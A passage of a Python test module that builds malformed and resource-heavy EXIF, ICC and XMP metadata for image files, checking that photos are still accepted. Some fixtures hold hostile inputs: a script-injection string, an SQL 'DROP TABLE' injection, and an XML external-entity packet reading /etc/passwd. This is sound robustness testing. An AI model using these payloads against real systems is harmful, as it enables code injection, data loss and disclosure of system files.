        "text where numbers are due": tiff((0x0112, 2, 4, b"six\0"), (0x8769, 2, 4, b"here")),
        "no bytes": b"Exif\0\0",
        "noise": b"Exif\0\0" + GARBAGE,
        "noise behind a head": b"Exif\0\0II*\0\x08\0\0\0" + GARBAGE[:30_000],
        "text of NUL": exif_block({0x010F: "\0" * 2000, 0x0110: "a\0b\0\0c"}),
        "text of halves of letters": tiff(
            (0x010F, 2, 60, struct.pack(">I", 26)), behind=b"\xed\xa0\x80\xed\xb0\x80\xff\xfe" * 9
        ),
        "text that names a page": exif_block({0x010F: "<script>alert(1)</script>", 0x0110: "'; DROP TABLE jobs; --"}),
        "text of 60000 letters": exif_block({0x010F: "A" * 60_000}),
        "a maker's note of 60000 bytes": exif_block({}, {0x927C: b"Apple iOS\0\0\1MM" + GARBAGE[:59_000]}),
        "Apple's numbers, absurd": exif_block({}, {0x927C: apple_makernote((1e4, -1e4, 1e4), 2e4, -2e4)}),
        "rationals over nothing": tiff(
            *((tag, 5, 1, struct.pack(">I", 8 + 2 + 5 * 12 + 4)) for tag in (0x829A, 0x829D, 0x920A, 0xA404, 0xA20E)),
            behind=bytes(8),
        ),
        "nothing but negative": exif_block({}, {0x9201: -2e4, 0x9204: -7.0, 0x9203: -1.0}),
        "a place that is nowhere": exif_block({}, {}, {1: "N", 2: (999.0, 999.0, 999.0), 3: "W", 4: (1e4, 1e4, 1e4)}),
        "a place of one number": exif_block({}, {}, {1: "N", 2: 1.0, 3: "Q", 4: 2.0}),
        "the end of time": exif_block({}, {}, {7: (59.0, 59.0, 59.0), 29: "9999:12:31", **_POLE}),
        "the first day": exif_block({}, {0x9003: "0001:01:01 00:00:00", 0x9011: "+14:00"}, _POLE),
        "an hour in letters": exif_block(
            {}, {0x9003: "2022:02:16 12:55:41", 0x9011: "+\u00b2\u00b2:\u00b2\u00b2".encode()}, _POLE
        ),
        "a clock without sense": exif_block({}, {0x9003: "2022:02:31 25:61:61", 0x9011: "+99:99"}, _POLE),
    }
    for number in (0, 9, 255, 65535):
        made[f"orientation {number}"] = tiff((0x0112, 3, 1, struct.pack(">H", number)))
    made["orientation of many"] = tiff((0x0112, 3, 5, struct.pack(">I", 26)), behind=struct.pack(">5H", 6, 6, 6, 6, 6))
    return made


_POLE = {1: "N", 2: (90.0, 0.0, 0.0), 3: "E", 4: (180.0, 0.0, 0.0)}


def exif_bomb(size: int, kind: int, width: int) -> bytes:
    """A block whose entries all lie on each other: each of them as large as the block."""
    entries = (size - 100) // 24
    count = min((size - 100) // width, 65_536)
    return tiff(
        *((tag, kind, count, struct.pack(">I", 8)) for tag in range(1, min(entries, 65_535))), behind=bytes(size // 2)
    )


def exif_of_jpeg() -> Files:
    """EXIF in a JPEG: none of it is a reason to refuse the photo."""
    whole = encode(chart(), "JPEG")
    for name, block in exif_garbage().items():
        yield name, with_segment(whole, segment(0xE1, block)), ACCEPTED
    for kind, width in ((6, 1), (5, 8), (7, 1)):
        yield (
            f"tags that lie on each other, type {kind}",
            with_segment(whole, segment(0xE1, exif_bomb(65_000, kind, width))),
            ACCEPTED,
        )
    yield "a thousand blocks", with_segment(whole, *[segment(0xE1, b"Exif\0\0MM\0*\0\0\0\x08\0\0")] * 1000), ACCEPTED


def exif_elsewhere() -> Files:
    """EXIF in the formats where it may be of any length."""
    garbage = exif_garbage()
    few = ("a directory that is its own", "counts of four billion", "noise", "the end of time", "orientation 65535")
    gain = chart(48, 32)[..., 0]
    for kind, wrap in (
        ("HEIC", lambda block: apple_heic(chart(), gain, exif=block)),
        ("PNG", lambda block: _grey(chunk(b"eXIf", block.removeprefix(b"Exif\0\0")))),
        ("WebP", lambda block: webp_of(canvas(96, 64, 8), encode(chart(), "WEBP")[12:], riff(b"EXIF", block))),
    ):
        for name in few:
            yield f"{name}, in {kind}", wrap(garbage[name]), ACCEPTED
        for number, width in ((6, 1), (7, 1)):
            block = exif_bomb(2_000_000, number, width)
            yield f"two megabytes of tags that lie on each other, type {number}, in {kind}", wrap(block), ACCEPTED


# -- ICC --


def icc_garbage() -> dict[str, bytes]:
    """Profiles that are broken, absurd, or made to be expensive."""
    whole = matrix_profile("Display P3")
    curve = b"curv" + struct.pack(">II", 0, 2**32 - 1) + bytes(100)
    every = b"curv" + struct.pack(">II", 0, 3_000_000) + bytes(6_000_000)
    table = b"mft2" + struct.pack(">I4B", 0, 3, 3, 255, 0) + bytes(36)
    return {
        "no bytes of a profile": b"\0",
        "a profile cut off": whole[:200],
        "noise": GARBAGE[:5000],
        "noise behind a head": whole[:132] + GARBAGE[:5000],
        "a size of four gigabytes": b"\xff\xff\xff\xff" + whole[4:],
        "a size of nothing": bytes(4) + whole[4:],
        "four billion tags": whole[:128] + b"\xff\xff\xff\xff" + whole[132:],
        "tags that are the table itself": whole[:132]
        + b"".join(
            tag + struct.pack(">II", 128, 200)
            for tag in (b"rTRC", b"gTRC", b"bTRC", b"rXYZ", b"gXYZ", b"bXYZ", b"desc")
        )
        + whole[216:],
        "curves of four billion steps": matrix_profile("bomb", curve),
        "curves of three million steps": matrix_profile("bomb", every),
        "curves of garbage": matrix_profile("bomb", b"para" + struct.pack(">IHH7i", 0, 4, 0, *[-(2**31)] * 7)),
        "curves to the power of -32768": matrix_profile("bomb", b"para" + struct.pack(">IHHi", 0, 0, 0, -(2**31))),
        "a table of 4 billion colours": icc_profile({b"A2B0": table, b"B2A0": table}),
        "of CMYK": icc_profile({b"A2B0": table}, b"CMYK"),
        "of Lab": icc_profile({}, b"Lab "),
        "of grey": icc_profile({b"kTRC": b"curv" + struct.pack(">IIH", 0, 1, 512)}, b"GRAY"),
        "colours that are all one": icc_profile(
            {tag: b"XYZ " + bytes(16) for tag in (b"rXYZ", b"gXYZ", b"bXYZ")}
            | {tag: b"curv" + bytes(8) for tag in (b"rTRC", b"gTRC", b"bTRC")}
        ),
        "a name of 40000 letters": matrix_profile("N" * 20_000),
        "a name of NUL and halves of letters": matrix_profile("a").replace("a".encode("utf-16-be"), b"\xd8\0"),
    }


def icc() -> Files:
    """Colour profiles: none of them is a reason to refuse the photo."""
    for name, profile in icc_garbage().items():
        yield f"{name}, in JPEG", encode(chart(), "JPEG", icc_profile=profile), ACCEPTED
        yield f"{name}, in PNG", _png_with(profile), frozenset((ACCEPTED, CUT)) if len(profile) > 1 << 20 else ACCEPTED
        yield f"{name}, in HEIC", apple_heic(chart(), chart(48, 32)[..., 0], profile=profile), ACCEPTED
    whole = encode(chart(), "JPEG")
    yield (
        "pieces that are numbered wrong",
        with_segment(whole, segment(0xE2, b"ICC_PROFILE\0\xff\1" + bytes(50))),
        ACCEPTED,
    )
    yield (
        "255 pieces, one of them there",
        with_segment(whole, segment(0xE2, b"ICC_PROFILE\0\1\xff" + bytes(50))),
        ACCEPTED,
    )
    body = bytes(20_000_000)
    tags = struct.pack(">I", 100) + b"".join(struct.pack(">III", n + 1, 0, len(body) + 2000) for n in range(100))
    yield (
        "a hundred tags of 20 megabytes each, in HEIC",
        apple_heic(chart(), chart(48, 32)[..., 0], profile=matrix_profile("x")[:128] + tags + body),
        ACCEPTED,
    )


def _png_with(profile: bytes) -> bytes:
    return _grey(chunk(b"iCCP", b"p\0\0" + zlib.compress(profile)))


# -- XMP and gain maps --


def xmp() -> Files:
    """XMP, and gain maps by it: what cannot be used is left out."""
    gain = chart(48, 32)[..., 0]
    head = b"http://ns.adobe.com/xap/1.0/\0"
    whole = encode(chart(), "JPEG")
    for name, packet in (
        ("noise", GARBAGE[:60_000]),
        ("a page of another's", b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
        ("sixty thousand angles", b"<" * 60_000),
        ("headroom of nothing", b'<x HDRGainMapHeadroom="." HDRGainMapHeadroom=".."/>'),
    ):
        yield name, with_segment(whole, segment(0xE1, head + packet)), ACCEPTED
    for name, properties in (
        ("numbers without digits", 'hdrgm:GainMapMax="." hdrgm:Gamma="..">'),
        (
            "three numbers without digits",
            'hdrgm:GainMapMax="3"><hdrgm:Gamma><rdf:Seq><rdf:li>.</rdf:li><rdf:li>1.2.3</rdf:li><rdf:li>-</rdf:li></rdf:Seq></hdrgm:Gamma>',
        ),
        ("numbers beyond all", 'hdrgm:GainMapMax="1e999" hdrgm:GainMapMin="-1e999">'),
        ("offsets beyond all", 'hdrgm:GainMapMax="3" hdrgm:OffsetSDR="1e300" hdrgm:OffsetHDR="-1e300">'),
        ("offsets that are negative", 'hdrgm:GainMapMax="3" hdrgm:OffsetSDR="-9e9" hdrgm:OffsetHDR="9e9">'),
        ("no gamma", 'hdrgm:GainMapMax="3" hdrgm:Gamma="0">'),
        ("hardly any gamma", 'hdrgm:GainMapMax="3" hdrgm:Gamma="1e-320">'),
        ("a gamma beyond all", 'hdrgm:GainMapMax="3" hdrgm:Gamma="1e999">'),
        ("a least above the most", 'hdrgm:GainMapMax="-16" hdrgm:GainMapMin="16">'),
        ("lists without end", 'hdrgm:GainMapMax="3">' + "hdrgm:Gamma><rdf:Seq>" * 2500),
    ):
        yield f"a gain map of {name}", ultra_hdr_jpeg(chart(), gain, properties), ACCEPTED
    endless = b"\0" + b"hdrgm:GainMapMax" * 100
    yield "a gain map that is all names", ultra_hdr_jpeg(chart(), gain, endless.decode()), ACCEPTED
